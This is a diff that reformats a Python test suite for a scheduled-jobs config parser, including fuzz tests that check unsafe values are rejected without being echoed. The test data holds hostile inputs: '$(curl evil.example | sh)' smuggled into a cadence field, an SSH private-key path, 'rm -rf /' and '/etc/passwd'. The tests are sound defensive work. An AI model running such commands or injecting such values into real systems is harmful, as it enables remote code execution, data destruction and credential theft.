@@ -29,10 +29,15 @@ def test_missing_config_uses_registry_defaults() -> None:
 
 
 def test_valid_config_is_applied() -> None:
-    cfg = parse({"schemaVersion": 1, "jobs": {
-        "aggregate": {"timerEnabled": True, "cadence": "hourly"},
-        "dream": {"timerEnabled": False, "times": ["18:30", "06:05"]},
-    }})
+    cfg = parse(
+        {
+            "schemaVersion": 1,
+            "jobs": {
+                "aggregate": {"timerEnabled": True, "cadence": "hourly"},
+                "dream": {"timerEnabled": False, "times": ["18:30", "06:05"]},
+            },
+        }
+    )
     assert cfg.warnings == ()
     agg = cfg.settings("aggregate")
     assert agg.timer_intent and agg.timer_intent_source is Source.CONFIG and agg.calendars == ("hourly",)
@@ -47,19 +52,30 @@ def test_example_config_is_valid_and_shipped() -> None:
 
 
 def test_raw_calendar_shell_and_paths_are_rejected_without_echo() -> None:
-    cfg = parse({"jobs": {
-        "agent-aggregate": {"cadence": "*-*-* *:*:00"},
-        "trend-finder": {"cadence": "$(curl evil.example | sh)"},
-        "dream": {"times": ["/home/someone/.ssh/id_rsa"]},
-        "aggregate": {"timerEnabled": "yes"},
-        SECRETISH: {"timerEnabled": True},
-    }, SECRETISH: 1})
+    cfg = parse(
+        {
+            "jobs": {
+                "agent-aggregate": {"cadence": "*-*-* *:*:00"},
+                "trend-finder": {"cadence": "$(curl evil.example | sh)"},
+                "dream": {"times": ["/home/someone/.ssh/id_rsa"]},
+                "aggregate": {"timerEnabled": "yes"},
+                SECRETISH: {"timerEnabled": True},
+            },
+            SECRETISH: 1,
+        }
+    )
     text = " ".join(str(w) for w in cfg.warnings)
     for raw in ("*:*", "curl", "/home", "id_rsa", "yes", SECRETISH):
         assert raw not in text
     keys = {w.key for w in cfg.warnings}
-    assert {"jobs.agent-aggregate.cadence", "jobs.trend-finder.cadence", "jobs.dream.times[0]",
-            "jobs.aggregate.timerEnabled", "jobs.<unknown job>", "<unknown key>"} <= keys
+    assert {
+        "jobs.agent-aggregate.cadence",
+        "jobs.trend-finder.cadence",
+        "jobs.dream.times[0]",
+        "jobs.aggregate.timerEnabled",
+        "jobs.<unknown job>",
+        "<unknown key>",
+    } <= keys
     # Every job fell back to its registry defaults.
     for job in REGISTRY:
         assert cfg.settings(job.id).cadence.id == job.default_cadence
@@ -88,7 +104,9 @@ def test_non_json_bytes_deep_nesting_and_huge_files(tmp_path: Path) -> None:
 def test_trend_finder_times_and_repeated_times_rejected() -> None:
     cfg = parse({"jobs": {"trend-finder": {"times": ["06:00"]}, "dream": {"times": ["06:00", "06:00"]}}})
     assert {str(w) for w in cfg.warnings} == {
-        "jobs.trend-finder.times: is only allowed for Dream", "jobs.dream.times: must not repeat a time"}
+        "jobs.trend-finder.times: is only allowed for Dream",
+        "jobs.dream.times: must not repeat a time",
+    }
 
 
 json_values = st.recursive(
@@ -98,14 +116,23 @@ json_values = st.recursive(
 )
 job_keys = st.sampled_from([*REGISTRY.ids(), "evil", ""]) | st.text(max_size=10)
 entry_keys = st.sampled_from(["timerEnabled", "cadence", "times", "command", "ExecStart"]) | st.text(max_size=8)
-entries = st.dictionaries(entry_keys, json_values | st.sampled_from(
-    ["hourly", "daily-0600", "*-*-* 0/4:00:00", "06:30", "rm -rf /", "/etc/passwd"]) | st.lists(
-    st.sampled_from(["06:30", "25:00", "6:30", "x"]), max_size=3), max_size=4)
+entries = st.dictionaries(
+    entry_keys,
+    json_values
+    | st.sampled_from(["hourly", "daily-0600", "*-*-* 0/4:00:00", "06:30", "rm -rf /", "/etc/passwd"])
+    | st.lists(st.sampled_from(["06:30", "25:00", "6:30", "x"]), max_size=3),
+    max_size=4,
+)
 
 
 @settings(max_examples=300, deadline=None)
-@given(doc=st.dictionaries(st.sampled_from(["schemaVersion", "jobs", "extra"]),
-                           st.dictionaries(job_keys, entries, max_size=5) | json_values, max_size=3))
+@given(
+    doc=st.dictionaries(
+        st.sampled_from(["schemaVersion", "jobs", "extra"]),
+        st.dictionaries(job_keys, entries, max_size=5) | json_values,
+        max_size=3,
+    )
+)
 def test_fuzzed_configs_never_crash_or_accept_unreviewed_values(doc: dict[str, object]) -> None:
     cfg = parse(doc)
     for job in REGISTRY:
@@ -113,7 +140,8 @@ def test_fuzzed_configs_never_crash_or_accept_unreviewed_values(doc: dict[str, o
         assert s.cadence.id in job.cadences
         for cal in s.calendars:
             assert cal in ("hourly", "*-*-* 0/2:00:00", "*-*-* 0/4:00:00", "*-*-* 06:00:00") or (
-                cal.startswith("*-*-* ") and len(cal) == 14)
+                cal.startswith("*-*-* ") and len(cal) == 14
+            )
     for w in cfg.warnings:
         # Warnings are built from reviewed names only, so no raw value can reach them.
         assert set(str(w)) <= set("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.[]<>:, ")
